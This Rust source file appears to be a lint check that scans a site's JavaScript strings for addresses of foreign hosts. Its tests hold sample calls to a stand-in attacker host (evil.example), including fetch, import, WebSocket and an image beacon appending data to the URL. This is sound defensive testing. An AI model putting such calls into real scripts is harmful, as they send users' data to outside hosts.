//! Scripts: the hosts that they name.
//!
//! Nothing here runs a script. Its strings are read, and one that is nothing but the address
//! of another host is reported: the policy of the pages would refuse the request. A string
//! with blanks in it is text, and names of namespaces are no addresses.

use crate::base::codes;
use crate::base::diag::Diagnostic;

use super::at;

/// Reports the strings of a script that are addresses of other hosts than the site's.
pub fn script(path: &str, text: &str, own: &str) -> Vec<Diagnostic> {
    let mut findings = Vec::new();
    for (literal, line) in strings(text).into_iter().filter(|(literal, _)| is_foreign(literal, own)) {
        let finding = Diagnostic::error(codes::THIRD_PARTY_REQUEST, format!("the script names `{literal}`"));
        findings.push(at(path, line, finding).help("load everything from the site itself; the pages' policy refuses other hosts"));
    }
    findings
}

fn is_foreign(literal: &str, own: &str) -> bool {
    let literal = literal.trim();
    let rest = ["https://", "http://", "wss://", "ws://", "//"].into_iter().find_map(|scheme| literal.strip_prefix(scheme));
    let Some(rest) = rest else { return false };
    let host = rest.split(['/', '?', '#', ':']).next().unwrap_or_default();
    let is_host = host.contains('.') && host.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.') && !host.ends_with('.');
    is_host && !literal.contains(char::is_whitespace) && host != "www.w3.org" && (own.is_empty() || !literal.starts_with(own))
}

/// The strings of a script with their lines, without what stands in comments. A regular
/// expression with a quotation mark in it is read wrongly, but only to the end of its line.
fn strings(text: &str) -> Vec<(String, u64)> {
    let mut found = Vec::new();
    let mut line = 1;
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let length = match c {
            '"' | '\'' | '`' => {
                let (literal, length) = literal(&rest[1..], c);
                if !literal.is_empty() {
                    found.push((literal.to_owned(), line));
                }
                1 + length
            }
            '/' if rest.starts_with("//") => rest.find('\n').unwrap_or(rest.len()),
            '/' if rest.starts_with("/*") => rest[2..].find("*/").map_or(rest.len(), |end| end + 4),
            c => c.len_utf8(),
        };
        line += u64::try_from(rest[..length].bytes().filter(|byte| *byte == b'\n').count()).unwrap_or(0);
        rest = &rest[length..];
    }
    found
}

/// The inside of a string, and its length with the closing mark.
fn literal(text: &str, mark: char) -> (&str, usize) {
    let mut escaped = false;
    for (at, c) in text.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '\n' if mark != '`' => return (&text[..at], at),
            c if c == mark => return (&text[..at], at + 1),
            _ => {}
        }
    }
    (text, text.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_of_other_hosts_are_found_and_texts_are_not() {
        for js in [
            "fetch(\"https://evil.example/x\")",
            "import('//evil.example/x.js')",
            "new WebSocket(`wss://evil.example`)",
            "img.src='http://evil.example/p.gif?'+x",
            "/* a */ import x from \"https://cdn.example/x.js\"; // b",
            "a=/['\"]/;\nfetch('https://evil.example/')",
        ] {
            assert_eq!(script("a.js", js, "https://leitfaden.example/").len(), 1, "{js}");
        }
        for js in [
            "// see \"https://example.org/\"",
            "/* fetch('https://example.org/') */",
            "document.createElementNS(\"http://www.w3.org/2000/svg\",\"svg\")",
            "t=\"Siehe https://example.org/ dort\"",
            "u=\"https://leitfaden.example/x\"",
            "a='//';b=\"//\"+c;d='https://'",
        ] {
            assert_eq!(script("a.js", js, "https://leitfaden.example/"), [], "{js}");
        }
    }
}
